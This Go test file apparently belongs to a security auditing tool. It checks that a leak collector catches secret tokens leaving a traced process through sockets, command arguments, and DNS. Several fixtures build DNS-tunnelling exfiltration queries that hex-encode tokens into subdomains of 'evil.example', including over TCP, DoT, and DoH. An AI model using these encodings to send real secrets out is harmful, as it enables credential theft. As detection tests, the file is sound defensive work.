package leak_test

import (
	"encoding/hex"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/mcpaudit/mcpaudit/runner/leak"
	"github.com/mcpaudit/mcpaudit/runner/trace"
)

// TestOnePort: a port that was used to go home is no excuse for what else went by
// it.
func TestOnePort(t *testing.T) {
	for range 20 { // whatever the order of a map is
		c, set := newCollector(t)
		home := netip.MustParseAddrPort("28.18.33.4:443")
		for n, at := range []netip.AddrPort{remote, home} {
			e := sent(0, token(t, set))
			e.Socket.Remote = at
			c.Event(e)
			part := capture("tcp", "", at, token(t, set))
			part.Flow = uint64(n + 1)
			if at == home {
				part.Named = "api.github.com"
			}
			c.Capture(part)
		}
		excused := map[bool]int{}
		for _, l := range c.Finish(session) {
			excused[l.Home]++
		}
		if excused[false] != 1 || excused[true] != 1 {
			t.Fatalf("%v", excused)
		}
	}
}

// TestManySockets: what is sent in pieces by many sockets in turn is found, or it
// is said that it was not searched.
func TestManySockets(t *testing.T) {
	for _, sockets := range []int{200, 30000} {
		c, set := newCollector(t)
		for text := token(t, set); text != ""; text = text[min(8, len(text)):] {
			for n := range sockets {
				e := sent(0, text[:min(8, len(text))])
				e.Socket.Local = netip.AddrPortFrom(local.Addr(), uint16(n+1))
				c.Event(e)
			}
		}
		if leaks := c.Finish(session); len(leaks) == 0 && c.Unsearched() == 0 {
			t.Errorf("%d sockets: nothing", sockets)
		}
	}
}

// TestManyFiles: what is written to files makes no room among the sockets, and a
// file that goes on later is no reason for doubt.
func TestManyFiles(t *testing.T) {
	c, set := newCollector(t)
	text := token(t, set)
	c.Event(sent(0, text[:8]))
	for n := range 30000 {
		c.Event(trace.Event{Op: trace.OpStore, Path: fmt.Sprintf("/tmp/%d", n%25000), Data: []byte("nothing"), Size: 7})
	}
	c.Event(sent(0, text[8:]))
	if leaks := c.Finish(session); len(leaks) != 1 || c.Unsearched() != 0 {
		t.Errorf("%d leaks, %d unsearched", len(leaks), c.Unsearched())
	}
}

// query is a question for a name, with something behind it.
func query(name, behind string) string {
	q := "\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	for label := range strings.SplitSeq(name, ".") {
		q += string(rune(len(label))) + label
	}
	return q + "\x00\x00\x01\x00\x01" + behind
}

// TestTunnels: at any port, below any domain, and beside the name.
func TestTunnels(t *testing.T) {
	port := func(n uint16) netip.AddrPort { return netip.AddrPortFrom(netip.MustParseAddr("8.8.8.8"), n) }
	for name, make := range map[string]func(token string) (protocol string, at netip.AddrPort, messages []string){
		"labels at another port": func(token string) (string, netip.AddrPort, []string) {
			x := hex.EncodeToString([]byte(token))
			return "udp", port(5300), []string{query(x[:24]+"."+x[24:48]+"."+x[48:]+".evil.example", "")}
		},
		"labels over TCP": func(token string) (string, netip.AddrPort, []string) {
			x := hex.EncodeToString([]byte(token))
			q := query(x[:24]+"."+x[24:48]+"."+x[48:]+".evil.example", "")
			return "tcp", port(5300), []string{string([]byte{0, byte(len(q))}) + q}
		},
		"behind the name": func(token string) (string, netip.AddrPort, []string) {
			return "udp", port(53), []string{query("a.example", token)}
		},
		"in the domain": func(token string) (string, netip.AddrPort, []string) {
			return "udp", port(53), []string{query("www."+strings.ToLower(token)+".io", "")}
		},
		"below ten domains": func(token string) (string, netip.AddrPort, []string) {
			var all []string
			for x, n := hex.EncodeToString([]byte(token)), 0; x != ""; n++ {
				all = append(all, query(fmt.Sprintf("%s.e%d.example", x[:min(10, len(x))], n), ""))
				x = x[min(10, len(x)):]
			}
			return "udp", port(53), all
		},
	} {
		c, set := newCollector(t)
		protocol, at, messages := make(token(t, set))
		for _, m := range messages {
			e := sent(0, m)
			e.Socket.Protocol, e.Socket.Remote = protocol, at
			c.Event(e)
		}
		if leaks := c.Finish(session); len(leaks) == 0 {
			t.Errorf("%s: nothing was found", name)
		}
	}
}

// TestTunnelsInside: of TLS, or of a request.
func TestTunnelsInside(t *testing.T) {
	for protocol, wrap := range map[string]func(q string) string{
		"dot":   func(q string) string { return string([]byte{0, byte(len(q))}) + q },
		"https": func(q string) string { return "POST /dns-query HTTP/1.1\r\nHost: x\r\n\r\n" + q },
	} {
		c, set := newCollector(t)
		x := hex.EncodeToString([]byte(token(t, set)))
		c.Capture(capture(protocol, "x", remote, wrap(query(x[:24]+"."+x[24:48]+"."+x[48:]+".evil.example", ""))))
		leaks := c.Finish(session)
		if !slices.ContainsFunc(leaks, func(l leak.Leak) bool { return l.Channel == leak.DNS && l.Destination == "evil.example" }) {
			t.Errorf("%s: %+v", protocol, leaks)
		}
	}
}

// TestArguments: together, apart, and more than the trace has.
func TestArguments(t *testing.T) {
	c, set := newCollector(t)
	text := token(t, set)
	c.Event(trace.Event{Op: trace.OpExec, Path: "/bin/true", Argv: []string{"true", text[:8], text[8:16], text[16:24]}})
	if leaks := c.Finish(session); len(leaks) != 1 || leaks[0].Channel != leak.Argv {
		t.Errorf("%+v", leaks)
	}
	c, _ = newCollector(t)
	c.Event(trace.Event{Op: trace.OpExec, Path: "/bin/true", Argv: []string{"true"}, Cut: true})
	if c.Unsearched() != 1 {
		t.Errorf("%d unsearched", c.Unsearched())
	}
}

// TestLongDatagrams: the trace has their beginning, and what is no UDP does not
// come to the sinkhole.
func TestLongDatagrams(t *testing.T) {
	for name, tc := range map[string]struct {
		size, received int64
		cut            bool
		want           int
	}{
		"received":  {9000, 9000, true, 0},
		"short":     {900, 0, false, 0},
		"elsewhere": {9000, 0, true, 1},
	} {
		c, _ := newCollector(t)
		e := sent(0, "beginning")
		e.Socket.Protocol, e.Size, e.Cut = "udp", tc.size, tc.cut
		c.Event(e)
		part := capture("udp", "", remote, "")
		part.Size = tc.received
		c.Capture(part)
		c.Finish(session)
		if got := c.Unsearched(); got != tc.want {
			t.Errorf("%s: %d unsearched, want %d", name, got, tc.want)
		}
	}
}
